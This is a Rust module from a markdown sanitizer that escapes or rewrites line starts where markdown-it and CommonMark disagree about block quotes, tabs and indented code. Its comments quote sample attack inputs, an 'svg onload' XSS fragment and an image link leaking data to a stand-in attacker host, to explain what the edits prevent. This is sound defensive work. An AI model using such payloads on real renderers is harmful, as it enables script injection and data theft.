//! Line starts markdown-it reads unlike `CommonMark` (markdown-it 14.x and 15.x,
//! `rules_block/blockquote` and its tab counting): the edits of [`LineStarts`] and
//! [`quote_continued_by_code`]. Used by [`super::sanitize`]; nothing here is public.

use super::Edit;
use pulldown_cmark::{Event, Tag, TagEnd};
use std::ops::Range;

/// Edits of line starts where markdown-it reads the container structure unlike
/// `CommonMark` (found by rendering generated texts with markdown-it 15,
/// `props_markdown::sanitized_markdown_is_inert_for_real_markdown_it`). A line's
/// prefix ends where its first block or inline event (never a container start) begins,
/// so the content of code blocks, HTML blocks and paragraphs is not touched.
#[derive(Debug, Default)]
pub(super) struct LineStarts {
    /// Tabs in the container prefix of a line (block quote and list markers, and the
    /// indentation between and after them), each turned into the spaces up to the next
    /// multiple of four columns counted from the start of the line. `CommonMark` (§2.2)
    /// reads a tab there as exactly those spaces, so its reading stays the same.
    /// markdown-it counts a tab after a marker in nested containers from another column
    /// and reads as a paragraph with live HTML what `CommonMark` reads as an indented
    /// code block (`> - > -  \t<svg onload=…>`), or the other way round, which shifts
    /// later blocks. A line outside every container keeps its leading tabs (markdown-it
    /// counts them right there).
    pub(super) tabs: Vec<Edit>,
    /// A paragraph line whose text begins with `>` (a lazy continuation line, or one
    /// indented four or more columns, so no block quote marker for `CommonMark`) gets
    /// the `>` escaped (`\>`, the same text for `CommonMark` readers): markdown-it
    /// continues a running block quote on any line whose first non-blank character is
    /// `>`, however far indented, and reads the rest of the line as blocks (`> p` then
    /// `    > - <!-- x` is a hidden comment in a list item there). The same holds for a
    /// line that continues an inline construct (a code span across lines) inside block
    /// quotes. Inside a list item the item's content column is not known here, so a `>`
    /// four columns from the line start counts as text there (at worst a quote marker
    /// of a code span's second line inside a wide list item is escaped). A lazy line in a
    /// block quote whose text starts like another block (`> > x`, then `    2.`: a list
    /// marker, a heading's `#`, …) gets that character escaped too: markdown-it ends the
    /// quote there and reads the block.
    pub(super) quote_markers: Vec<Edit>,
}

/// The [`LineStarts`] edits of `text`, read as `events`.
pub(super) fn line_starts(text: &str, events: &[(Event<'_>, Range<usize>)]) -> LineStarts {
    // Each block or inline event's start, and whether it is paragraph text there.
    let mut starts: Vec<(usize, bool)> = Vec::with_capacity(events.len());
    let mut code = 0usize;
    for (e, r) in events {
        match e {
            Event::End(TagEnd::CodeBlock) => code = code.saturating_sub(1),
            Event::Start(
                Tag::BlockQuote(_) | Tag::List(_) | Tag::Item | Tag::FootnoteDefinition(_),
            )
            | Event::End(_) => {}
            Event::Start(Tag::CodeBlock(_)) => {
                code += 1;
                starts.push((r.start, false));
            }
            Event::Text(_) => starts.push((r.start, code == 0)),
            _ => starts.push((r.start, false)),
        }
    }
    starts.sort_unstable();
    let lines: Vec<usize> = std::iter::once(0)
        .chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|n| n + 1))
        .filter(|&n| n < text.len())
        .collect();
    // Lines inside a container that began on an earlier line: +1 at the first line
    // after the container's start, -1 at the first line at or after its end.
    // The same for lines inside an inline event that began on an earlier line (a code
    // span, inline HTML or text across lines).
    let mut depth = vec![[0i64; 3]; lines.len() + 1];
    for (e, r) in events {
        // [any container, block quote, inline event]
        let kind = match e {
            Event::Start(Tag::BlockQuote(_)) => [1, 1, 0],
            Event::Start(Tag::List(_) | Tag::Item | Tag::FootnoteDefinition(_)) => [1, 0, 0],
            Event::Code(_) | Event::InlineHtml(_) | Event::Text(_) => [0, 0, 1],
            _ => continue,
        };
        let (first, after) = (
            lines.partition_point(|&l| l <= r.start),
            lines.partition_point(|&l| l < r.end),
        );
        if first < after {
            for (d, k) in kind.iter().enumerate() {
                depth[first][d] += k;
                depth[after][d] -= k;
            }
        }
    }
    let mut out = LineStarts::default();
    let mut level = [0i64; 3];
    for (k, &line_start) in lines.iter().enumerate() {
        for (d, l) in level.iter_mut().enumerate() {
            *l += depth[k][d];
        }
        let [inside, in_quote, spanned] = level;
        let line_end = lines.get(k + 1).copied().unwrap_or(text.len());
        let line = &text[line_start..line_end];
        let first = starts.partition_point(|&(s, _)| s < line_start);
        if spanned > 0 {
            // The line continues an inline construct of a paragraph (a code span or
            // inline HTML across lines): its leading whitespace is not content.
            let content = line_end - line.trim_start_matches([' ', '\t']).len();
            if let Some(edit) = tabs_to_spaces(text, line_start..content, in_quote > 0) {
                out.tabs.push(edit);
            }
            if inside > 0
                && let Some(at) = first_block_start(line)
            {
                out.quote_markers.push(Edit {
                    range: line_start + at..line_start + at,
                    with: "\\".to_owned(),
                });
            }
            continue;
        }
        // A line no event starts on holds container markers only.
        let Some(&(content, _)) = starts.get(first).filter(|&&(s, _)| s < line_end) else {
            continue;
        };
        if let Some(edit) = tabs_to_spaces(text, line_start..content, in_quote > 0) {
            out.tabs.push(edit);
        }
        let text_there = starts[first..]
            .iter()
            .take_while(|&&(s, _)| s == content)
            .any(|&(_, is_text)| is_text);
        let prefix = &text[line_start..content];
        if !text_there || !container_prefix(prefix) {
            continue;
        }
        if text[content..].starts_with('>') {
            out.quote_markers.push(Edit {
                range: content..content,
                with: "\\".to_owned(),
            });
        } else if in_quote > 0
            && i64::try_from(prefix.bytes().filter(|&b| b == b'>').count())
                .is_ok_and(|q| q < in_quote)
            && let Some(at) = first_block_start(&text[content..line_end])
        {
            // A lazy line in a block quote whose text starts like a block (`    2.` after
            // `> > x`): markdown-it ends the quote there and reads the block.
            out.quote_markers.push(Edit {
                range: content + at..content + at,
                with: "\\".to_owned(),
            });
        }
    }
    out
}

/// Whether `prefix` holds only what container prefixes are made of (block quote and
/// list markers, whitespace).
pub(super) fn container_prefix(prefix: &str) -> bool {
    prefix.bytes().all(|b| {
        matches!(b, b' ' | b'\t' | b'>' | b'-' | b'+' | b'*' | b'.' | b')') || b.is_ascii_digit()
    })
}

/// The [`LineStarts::tabs`] edit of the container prefix `range`: its tabs as the spaces
/// up to the next multiple of four columns from the line start. Only where markdown-it
/// miscounts: a tab after a block quote marker, or any tab at the start of a line
/// inside a block quote (`in_quote`). Tabs in list indentation outside quotes are
/// counted alike by both and stay.
fn tabs_to_spaces(text: &str, range: Range<usize>, in_quote: bool) -> Option<Edit> {
    let prefix = &text[range.clone()];
    if !prefix.contains('\t') || !container_prefix(prefix) {
        return None;
    }
    let after_quote_marker = prefix.find('>').is_some_and(|q| prefix[q..].contains('\t'));
    if !(in_quote || after_quote_marker) {
        return None;
    }
    let mut spaced = String::with_capacity(prefix.len() + 8);
    for c in prefix.chars() {
        if c == '\t' {
            let pad = 4 - spaced.len() % 4;
            spaced.extend(std::iter::repeat_n(' ', pad));
        } else {
            spaced.push(c);
        }
    }
    Some(Edit {
        range,
        with: spaced,
    })
}

/// On a line that continues a multi-line inline construct inside containers, the byte
/// offset of the first character after the block quote markers where markdown-it could
/// read a block: a `>` that is text for `CommonMark` (four or more columns of whitespace
/// before it, counted from the line start or after the previous marker and its optional
/// space, `CommonMark` §5.1; tabs to multiples of four), a list, heading, rule, fence,
/// table or HTML start character, or the `.`/`)` of an ordered list marker. markdown-it
/// ends a paragraph in nested containers at such a line, which cuts the construct open
/// (a code span opened in `> > a`, a next line `    ---`, then an image and the span's
/// end show a live image there); escaped, the line is text for every reader.
pub(super) fn first_block_start(line: &str) -> Option<usize> {
    let (mut col, mut since, mut after_marker) = (0usize, 0usize, false);
    for (i, b) in line.bytes().enumerate() {
        match b {
            b' ' => col += 1,
            b'\t' => col += 4 - col % 4,
            b'>' => {
                let limit = if after_marker { 5 } else { 4 };
                if col - since >= limit {
                    return Some(i);
                }
                col += 1;
                since = col;
                after_marker = true;
            }
            b'-' | b'+' | b'*' | b'#' | b'`' | b'~' | b'<' | b'_' | b'=' | b'|' => {
                return Some(i);
            }
            b'0'..=b'9' => {
                let digits = line[i..].bytes().take_while(u8::is_ascii_digit).count();
                return matches!(line.as_bytes().get(i + digits), Some(b'.' | b')'))
                    .then_some(i + digits);
            }
            _ => return None,
        }
    }
    None
}

/// markdown-it (14.x, `rules_block/blockquote`) continues a running block quote on any
/// line whose first non-blank character is `>`, however far indented; `CommonMark`
/// (§5.1) takes a `>` after four or more columns for text, so right after a quote that
/// ends in something other than a paragraph the line opens an indented code block.
/// What pulldown-cmark leaves alone as code, markdown-it renders as markdown inside the
/// quote (`> # h` then `    > ![x](https://attacker.example/?d=…)` is a live image
/// there), together with the lazy lines after it.
///
/// `code_start` is where an indented code block's text begins and `quote_end` where the
/// last block quote ended. When the code block begins on the line right after the quote
/// and its first non-blank character is `>`, the edit inserts an empty line carrying the
/// line's container prefix (`>` markers; list indentation becomes an empty line) before
/// it: a blank line ends markdown-it's quote and leaves the `CommonMark` reading as it
/// was (a code block needs no blank line before it, and a blank line never joins it).
pub(super) fn quote_continued_by_code(
    text: &str,
    code_start: usize,
    quote_end: Option<usize>,
) -> Option<Edit> {
    let line_start = text[..code_start].rfind('\n').map_or(0, |n| n + 1);
    if quote_end != Some(line_start) {
        return None;
    }
    let prefix = &text[line_start..code_start];
    // A tab before a `>` leaves the marker's column to the reader: the pass's
    // [`LineStarts`] edit turns it into spaces first, and the next pass decides.
    if !prefix.bytes().all(|b| matches!(b, b' ' | b'\t' | b'>'))
        || prefix.trim_end_matches([' ', '\t']).contains('\t')
    {
        return None;
    }
    if !text[code_start..]
        .trim_start_matches([' ', '\t'])
        .starts_with('>')
    {
        return None;
    }
    Some(Edit {
        range: line_start..line_start,
        with: format!("{}\n", prefix.trim_end_matches([' ', '\t'])),
    })
}
